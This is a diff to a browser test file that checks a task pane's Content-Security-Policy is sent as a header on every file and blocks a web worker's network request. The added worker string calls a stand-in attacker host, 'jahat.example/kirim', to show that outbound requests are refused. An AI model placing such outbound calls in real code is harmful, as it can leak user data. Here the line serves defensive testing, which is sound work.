@@ -4,6 +4,7 @@ import { createServer, type Server } from 'node:http';
 import type { AddressInfo } from 'node:net';
 import path from 'node:path';
 import type { Browser, Page } from 'playwright-core';
+import { headersFor, POLICY } from '../../scripts/hosting.mjs';
 import { describeInChromium, launch } from '../chromium';
 
 const template = readFileSync(path.join(__dirname, '../../src/taskpane/taskpane.html'), 'utf8');
@@ -21,7 +22,13 @@ test('the policy is the strict one', () => {
     "base-uri 'none'",
     "form-action 'none'",
   ]);
+  // A server sends it with every file: the page's own word does not bind its worker.
+  expect(headersFor('chunk-1-abcd.js')['Content-Security-Policy']).toBe(POLICY);
+  expect(policy).toBe(POLICY);
 });
+
+/** Asks elsewhere, and says what became of it. */
+const WORKER = `fetch('https://jahat.example/kirim').then(() => 'sent', () => 'refused').then((told) => postMessage(told));`;
 
 describeInChromium("what the pane's policy keeps out", () => {
   let server: Server;
@@ -32,9 +39,10 @@ describeInChromium("what the pane's policy keeps out", () => {
 
   beforeAll(async () => {
     server = createServer((request, response) => {
-      const isScript = request.url!.endsWith('.js');
-      response.setHeader('Content-Type', isScript ? 'text/javascript' : 'text/html');
-      response.end(isScript ? 'globalThis.ran = [...(globalThis.ran ?? []), "own"];' : template);
+      const script = /\/([\w-]+\.js)$/.exec(request.url!)?.[1];
+      response.writeHead(200, headersFor(script ?? 'taskpane.html'));
+      if (script === 'chunk-worker.js') response.end(WORKER);
+      else response.end(script ? 'globalThis.ran = [...(globalThis.ran ?? []), "own"];' : template);
     });
     await new Promise<void>((listening) => server.listen(0, '127.0.0.1', listening));
     address = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
@@ -95,6 +103,17 @@ describeInChromium("what the pane's policy keeps out", () => {
     expect(await broken(attempt)).toBe(directive);
     expect(asked.filter((url) => !url.startsWith(CDN))).toEqual([]);
     expect(await page.evaluate(() => 'bad' in globalThis)).toBe(false);
+  });
+
+  test('a request of its worker', async () => {
+    const told = await page.evaluate(
+      () =>
+        new Promise((resolve) => {
+          new Worker('/chunk-worker.js').addEventListener('message', ({ data }) => resolve(data));
+        }),
+    );
+    expect(told).toBe('refused');
+    expect(asked.filter((url) => !url.startsWith(CDN))).toEqual([]);
   });
 
   test('and what it lets in: our own scripts', async () => {
